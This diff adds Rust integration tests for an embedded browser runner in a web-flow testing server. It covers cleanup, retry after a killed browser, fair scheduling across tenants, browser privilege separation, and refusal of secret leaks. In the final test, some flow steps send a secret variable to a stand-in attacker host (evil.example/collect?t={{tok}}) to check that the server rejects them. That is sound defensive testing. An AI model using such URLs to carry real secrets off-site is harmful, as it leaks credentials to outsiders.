@@ -1,0 +1,543 @@
+//! The embedded runner of `serve` (issue 22): queued runs execute without any external agent,
+//! in an isolated browser that cleans up after itself; a browser crash is a `runner_error`
+//! retried once; runs of several tenants drain fairly.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use reqwest::Method;
+use serde_json::{json, Value};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::helpers::*;
+
+const PAGE: &str = r#"<!doctype html><html><head><title>Shop</title></head>
+<body><h1 id="title">Shop</h1><input id="q"><p id="slow-never">x</p></body></html>"#;
+
+/// A tiny web app on 127.0.0.1:0 serving [`PAGE`] for every path.
+pub(crate) async fn serve_page() -> String {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        loop {
+            let Ok((mut sock, _)) = listener.accept().await else {
+                return;
+            };
+            tokio::spawn(async move {
+                let mut buf = Vec::new();
+                let mut chunk = [0u8; 4096];
+                while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 65536 {
+                    match sock.read(&mut chunk).await {
+                        Ok(0) | Err(_) => return,
+                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
+                    }
+                }
+                let resp = format!(
+                    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{PAGE}",
+                    PAGE.len()
+                );
+                let _ = sock.write_all(resp.as_bytes()).await;
+                let _ = sock.shutdown().await;
+            });
+        }
+    });
+    format!("http://{addr}")
+}
+
+/// A server with `workers` embedded workers whose browser profiles go under `<tmp>/browsers`
+/// (world-traversable, so the unprivileged browser user reaches its own profile).
+pub(crate) async fn spawn_runner(workers: usize) -> (TestApp, PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    let profiles = dir.path().join("browsers");
+    std::fs::create_dir(&profiles).unwrap();
+    std::fs::set_permissions(&profiles, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let app = spawn_with(Opts {
+        dir: Some(dir),
+        env: vec![
+            (
+                "FLOWGUARD_RUNNER__EMBEDDED_WORKERS".into(),
+                workers.to_string(),
+            ),
+            ("FLOWGUARD_RUNNER__POLL_MS".into(), "200".into()),
+            ("TMPDIR".into(), profiles.display().to_string()),
+        ],
+        ..Default::default()
+    })
+    .await;
+    (app, profiles)
+}
+
+pub(crate) async fn make_app(owner: &Session, base_url: &str) -> String {
+    let a = owner
+        .json(
+            Method::POST,
+            "/api/v1/applications",
+            Some(json!({"name": "shop", "base_url": base_url})),
+            201,
+        )
+        .await;
+    a["id"].as_str().unwrap().to_string()
+}
+
+pub(crate) async fn make_flow(owner: &Session, app: &str, steps: Value) -> String {
+    let f = owner
+        .json(
+            Method::POST,
+            &format!("/api/v1/applications/{app}/flows"),
+            Some(json!({"name": "flow", "steps": steps})),
+            201,
+        )
+        .await;
+    f["id"].as_str().unwrap().to_string()
+}
+
+async fn queue(owner: &Session, flow: &str) -> String {
+    let r = owner
+        .json(
+            Method::POST,
+            &format!("/api/v1/flows/{flow}/runs"),
+            Some(json!({})),
+            201,
+        )
+        .await;
+    r["id"].as_str().unwrap().to_string()
+}
+
+/// Poll a run until `done(run)` holds (panics after `secs`).
+async fn wait_run(owner: &Session, run: &str, secs: u64, done: impl Fn(&Value) -> bool) -> Value {
+    let deadline = Instant::now() + Duration::from_secs(secs);
+    loop {
+        let d = owner
+            .json(Method::GET, &format!("/api/v1/runs/{run}"), None, 200)
+            .await;
+        if done(&d) {
+            return d;
+        }
+        assert!(Instant::now() < deadline, "run never got there: {d:#}");
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+fn finished(d: &Value) -> bool {
+    !["queued", "running"].contains(&d["status"].as_str().unwrap_or(""))
+}
+
+/// `(pid, ppid, state, cmdline)` of every process.
+fn processes() -> Vec<(i32, i32, char, String)> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<i32>().ok()) else {
+            continue;
+        };
+        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
+            continue;
+        };
+        let Some(i) = stat.rfind(')') else { continue };
+        let f: Vec<&str> = stat[i + 1..].split_whitespace().collect();
+        let cmd = std::fs::read(format!("/proc/{pid}/cmdline"))
+            .map(|b| String::from_utf8_lossy(&b).replace('\0', " "))
+            .unwrap_or_default();
+        out.push((
+            pid,
+            f[1].parse().unwrap_or(0),
+            f[0].chars().next().unwrap_or('?'),
+            cmd,
+        ));
+    }
+    out
+}
+
+/// Browser processes whose profile lives under `profiles`.
+fn browsers_under(profiles: &Path) -> Vec<(i32, i32, char, String)> {
+    let needle = format!("--user-data-dir={}", profiles.display());
+    processes()
+        .into_iter()
+        .filter(|p| p.3.contains(&needle))
+        .collect()
+}
+
+/// The main browser process (no `--type=`) of a run under `profiles`, once it is up.
+async fn main_browser(profiles: &Path) -> i32 {
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        if let Some(p) = browsers_under(profiles)
+            .into_iter()
+            .find(|p| !p.3.contains("--type=") && p.2 != 'Z')
+        {
+            return p.0;
+        }
+        assert!(Instant::now() < deadline, "no browser started");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+fn profile_dirs(profiles: &Path) -> Vec<String> {
+    std::fs::read_dir(profiles)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().to_string())
+        .filter(|n| n.starts_with("flowguard-browser-profile-"))
+        .collect()
+}
+
+/// No browser process left, no zombie child of the server, no profile directory.
+async fn assert_clean(app: &TestApp, profiles: &Path) {
+    let server = app.child.0.id() as i32;
+    let deadline = Instant::now() + Duration::from_secs(15);
+    loop {
+        let left = browsers_under(profiles);
+        let zombies: Vec<_> = processes()
+            .into_iter()
+            .filter(|p| p.1 == server && p.2 == 'Z')
+            .collect();
+        let dirs = profile_dirs(profiles);
+        if left.is_empty() && zombies.is_empty() && dirs.is_empty() {
+            return;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "left behind: browsers {left:?}, zombies {zombies:?}, profiles {dirs:?}"
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+#[tokio::test]
+async fn run_now_without_an_agent_runs_in_the_embedded_runner() {
+    let web = serve_page().await;
+    let (app, profiles) = spawn_runner(1).await;
+    let owner = app.owner().await;
+    let r = owner.json(Method::GET, "/api/v1/runners", None, 200).await;
+    assert_eq!(r["embedded"]["enabled"], true, "{r:#}");
+    assert_eq!(r["embedded"]["workers"], 1);
+    assert_eq!(r["embedded"]["no_sandbox"], false, "{r:#}");
+    assert_eq!(r["can_run"], true);
+    let a = make_app(&owner, &web).await;
+    let flow = make_flow(
+        &owner,
+        &a,
+        json!([
+            {"type": "navigate", "url": "/"},
+            {"type": "fill", "selector": "#q", "value": "shoes"},
+            {"type": "assert", "selector": "#title", "assertion": "text_equals", "expected": "Shop"},
+            {"type": "screenshot"}
+        ]),
+    )
+    .await;
+    // The dashboard's "Run now" is this request; nothing else is started.
+    let run = queue(&owner, &flow).await;
+    // The live stream delivers every step in order, the screenshot, and ends with the run.
+    let r = owner.get(&format!("/api/v1/runs/{run}/events")).await;
+    assert_eq!(r.status(), 200);
+    assert!(r.headers()["content-type"]
+        .to_str()
+        .unwrap()
+        .starts_with("text/event-stream"));
+    let body = tokio::time::timeout(Duration::from_secs(90), r.text())
+        .await
+        .expect("the event stream did not end with the run")
+        .unwrap();
+    let events: Vec<(String, Value)> = body
+        .split("\n\n")
+        .filter_map(|block| {
+            let name = block.lines().find_map(|l| l.strip_prefix("event: "))?;
+            let data = block.lines().find_map(|l| l.strip_prefix("data: "))?;
+            Some((name.to_string(), serde_json::from_str(data).unwrap()))
+        })
+        .collect();
+    let mut passed_steps: Vec<i64> = events
+        .iter()
+        .filter(|(n, v)| n == "step" && v["status"] == "passed")
+        .map(|(_, v)| v["index"].as_i64().unwrap())
+        .collect();
+    passed_steps.dedup(); // a step may be re-sent when its screenshot lands after its report
+    assert_eq!(passed_steps, vec![0, 1, 2, 3], "{body}");
+    assert!(
+        events
+            .iter()
+            .any(|(n, v)| n == "screenshot" && v["index"] == 3),
+        "{body}"
+    );
+    let last = events.last().unwrap();
+    assert_eq!(last.0, "status", "{body}");
+    assert_eq!(last.1["status"], "passed", "{body}");
+    let d = wait_run(&owner, &run, 60, finished).await;
+    assert_eq!(d["status"], "passed", "{d:#}\n{}", app.log_text());
+    assert_eq!(d["runner"], "runner:embedded");
+    assert_eq!(d["steps"].as_array().unwrap().len(), 4);
+    assert_eq!(d["steps"][3]["has_screenshot"], true);
+    let audit = owner
+        .json(Method::GET, "/api/v1/audit?action=run.complete", None, 200)
+        .await;
+    assert!(
+        audit.to_string().contains("runner:embedded"),
+        "audit actor: {audit:#}"
+    );
+    assert_clean(&app, &profiles).await;
+}
+
+#[tokio::test]
+async fn without_chromium_the_server_starts_and_says_why_the_runner_is_off() {
+    let app = spawn_with(Opts {
+        env: vec![
+            ("FLOWGUARD_RUNNER__EMBEDDED_WORKERS".into(), "1".into()),
+            (
+                "FLOWGUARD_RUNNER__CHROMIUM".into(),
+                "/nonexistent/chromium".into(),
+            ),
+        ],
+        ..Default::default()
+    })
+    .await;
+    let r = app.client().get(app.url("/readyz")).send().await.unwrap();
+    assert_eq!(r.status(), 200);
+    let owner = app.owner().await;
+    let r = owner.json(Method::GET, "/api/v1/runners", None, 200).await;
+    assert_eq!(r["embedded"]["enabled"], false, "{r:#}");
+    assert!(
+        r["embedded"]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("/nonexistent/chromium"),
+        "{r:#}"
+    );
+    assert_eq!(r["can_run"], false);
+    assert!(r["how_to_start_agent"]
+        .as_str()
+        .unwrap()
+        .contains("flowguard agent run"));
+}
+
+#[tokio::test]
+async fn a_killed_browser_is_a_runner_error_retried_once_and_leaves_nothing_behind() {
+    let web = serve_page().await;
+    let (app, profiles) = spawn_runner(1).await;
+    let owner = app.owner().await;
+    let a = make_app(&owner, &web).await;
+    let flow = make_flow(
+        &owner,
+        &a,
+        json!([
+            {"type": "navigate", "url": "/"},
+            {"type": "wait", "for": "selector", "selector": "#never", "timeout_ms": 60000}
+        ]),
+    )
+    .await;
+    let run = queue(&owner, &flow).await;
+    wait_run(&owner, &run, 30, |d| d["steps"][0]["status"] == "passed").await;
+    let pid = main_browser(&profiles).await;
+
+    // The event stream delivers while the run is still running (not buffered to its end).
+    let mut live = owner.get(&format!("/api/v1/runs/{run}/events")).await;
+    assert_eq!(live.status(), 200);
+    let mut first = String::new();
+    while !(first.contains("event: step") && first.contains("event: status")) {
+        let chunk = tokio::time::timeout(Duration::from_secs(10), live.chunk())
+            .await
+            .expect("no event while the run is running")
+            .unwrap()
+            .expect("stream ended early");
+        first.push_str(&String::from_utf8_lossy(&chunk));
+    }
+    assert!(first.contains("\"status\":\"running\""), "{first}");
+
+    // The browser runs as an unprivileged user that cannot open the master key.
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let uid: u32 = status
+        .lines()
+        .find(|l| l.starts_with("Uid:"))
+        .and_then(|l| l.split_whitespace().nth(1))
+        .unwrap()
+        .parse()
+        .unwrap();
+    assert_ne!(uid, 0, "the browser runs as root");
+    let key = app.data.join("keys/master.key");
+    assert!(key.is_file(), "no master key at {}", key.display());
+    let open = std::process::Command::new("setpriv")
+        .args([
+            format!("--reuid={uid}"),
+            format!("--regid={uid}"),
+            "--clear-groups".into(),
+            "cat".into(),
+            key.display().to_string(),
+        ])
+        .output()
+        .unwrap();
+    assert!(
+        !open.status.success(),
+        "the browser user read the master key"
+    );
+    assert!(
+        String::from_utf8_lossy(&open.stderr).contains("Permission denied"),
+        "{}",
+        String::from_utf8_lossy(&open.stderr)
+    );
+
+    // kill -9 of the browser mid-run: error/runner_error, never failed.
+    unsafe {
+        libc::kill(pid, libc::SIGKILL);
+    }
+    let d = wait_run(&owner, &run, 30, finished).await;
+    assert_eq!(d["status"], "error", "{d:#}");
+    assert_eq!(d["reason"], "runner_error", "{d:#}");
+
+    // Retried once: a new run of the same flow with retry_of; killing it too ends it the same
+    // way and queues nothing more.
+    let list = owner
+        .json(
+            Method::GET,
+            &format!("/api/v1/applications/{a}/runs"),
+            None,
+            200,
+        )
+        .await;
+    let items = list["items"]
+        .as_array()
+        .unwrap_or_else(|| list.as_array().unwrap())
+        .clone();
+    let retry = items
+        .iter()
+        .find(|r| r["retry_of"] == run.as_str())
+        .unwrap_or_else(|| panic!("no retry: {list:#}"))["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    wait_run(&owner, &retry, 30, |d| d["steps"][0]["status"] == "passed").await;
+    let pid2 = main_browser(&profiles).await;
+    unsafe {
+        libc::kill(pid2, libc::SIGKILL);
+    }
+    let d2 = wait_run(&owner, &retry, 30, finished).await;
+    assert_eq!(d2["status"], "error", "{d2:#}");
+    assert_eq!(d2["reason"], "runner_error");
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let list = owner
+        .json(
+            Method::GET,
+            &format!("/api/v1/applications/{a}/runs"),
+            None,
+            200,
+        )
+        .await;
+    let n = list["items"]
+        .as_array()
+        .unwrap_or_else(|| list.as_array().unwrap())
+        .len();
+    assert_eq!(n, 2, "a retry was retried: {list:#}");
+    assert_clean(&app, &profiles).await;
+}
+
+#[tokio::test]
+async fn runs_of_three_tenants_drain_fairly() {
+    let web = serve_page().await;
+    let (app, profiles) = spawn_runner(1).await;
+    let mut owners = vec![app.owner().await];
+    for (name, email) in [("beta", "b@beta.test"), ("gamma", "c@gamma.test")] {
+        let (tid, pw) = create_tenant(&app, name, email);
+        owners.push(app.login(Some(&tid), email, &pw).await);
+    }
+    let mut flows = Vec::new();
+    for o in &owners {
+        let a = make_app(o, &web).await;
+        flows.push(make_flow(o, &a, json!([{"type": "navigate", "url": "/"}])).await);
+    }
+    // Tenant after tenant: the first tenant's ten runs are all queued before the others'.
+    let mut runs: Vec<Vec<String>> = Vec::new();
+    for (o, flow) in owners.iter().zip(&flows) {
+        let mut ids = Vec::new();
+        for _ in 0..10 {
+            ids.push(queue(o, flow).await);
+        }
+        runs.push(ids);
+    }
+    let mut started: Vec<(String, usize)> = Vec::new();
+    for (t, (o, ids)) in owners.iter().zip(&runs).enumerate() {
+        for id in ids {
+            let d = wait_run(o, id, 180, finished).await;
+            assert_eq!(d["status"], "passed", "{d:#}");
+            started.push((d["started_at"].as_str().unwrap().to_string(), t));
+        }
+    }
+    started.sort();
+    // Round robin: every window of three consecutive claims serves each tenant once (the
+    // first run may have started before the other tenants had queued anything).
+    let order: Vec<usize> = started.iter().map(|s| s.1).collect();
+    let first_all = order.iter().position(|t| *t == 2).unwrap();
+    for w in order[first_all..first_all + 9].chunks(3) {
+        let mut w = w.to_vec();
+        w.sort();
+        assert_eq!(w, vec![0, 1, 2], "unfair order: {order:?}");
+    }
+    assert_clean(&app, &profiles).await;
+}
+
+#[tokio::test]
+async fn a_secret_sent_outside_the_application_origin_is_refused_on_save() {
+    let app = spawn_app().await;
+    let owner = app.owner().await;
+    let a = make_app(&owner, "https://shop.example").await;
+    owner
+        .json(
+            Method::PUT,
+            &format!("/api/v1/applications/{a}/variables/tok"),
+            Some(json!({"value": "s3cret-value", "secret": true})),
+            200,
+        )
+        .await;
+    let save = |steps: Value| {
+        let owner = &owner;
+        let a = a.clone();
+        async move {
+            owner
+                .post(
+                    &format!("/api/v1/applications/{a}/flows"),
+                    json!({"name": "f", "steps": steps}),
+                )
+                .await
+        }
+    };
+    let r = save(json!([
+        {"type": "navigate", "url": "/"},
+        {"type": "navigate", "url": "https://evil.example/collect?t={{tok}}"}
+    ]))
+    .await;
+    assert_eq!(r.status(), 422);
+    let p: Value = r.json().await.unwrap();
+    assert_eq!(p["code"], "secret_outside_origin", "{p:#}");
+    assert_eq!(p["field"], "steps[1].url", "{p:#}");
+    assert!(p["detail"].as_str().unwrap().contains("step 1"), "{p:#}");
+    assert!(!p.to_string().contains("s3cret-value"));
+
+    let r = save(json!([
+        {"type": "navigate", "url": "/"},
+        {"type": "assert", "selector": "#t", "assertion": "text_equals", "expected": "{{tok}}"}
+    ]))
+    .await;
+    assert_eq!(r.status(), 422);
+    let p: Value = r.json().await.unwrap();
+    assert_eq!(p["code"], "secret_outside_origin");
+    assert_eq!(p["field"], "steps[1].expected");
+
+    // The application's own origin is fine, and so is a non-secret variable anywhere.
+    let r = save(json!([
+        {"type": "navigate", "url": "/login?t={{tok}}"},
+        {"type": "navigate", "url": "https://shop.example/x?t={{tok}}"}
+    ]))
+    .await;
+    assert_eq!(r.status(), 201);
+    let flow: Value = r.json().await.unwrap();
+    // A new version is checked the same way.
+    let r = owner
+        .req(
+            Method::PUT,
+            &format!("/api/v1/flows/{}", flow["id"].as_str().unwrap()),
+            Some(json!({"name": "f", "steps": [{"type": "navigate", "url": "//evil.example/?t={{tok}}"}]})),
+        )
+        .await;
+    assert_eq!(r.status(), 422);
+    let p: Value = r.json().await.unwrap();
+    assert_eq!(p["code"], "secret_outside_origin");
+    assert_eq!(p["field"], "steps[0].url");
+}
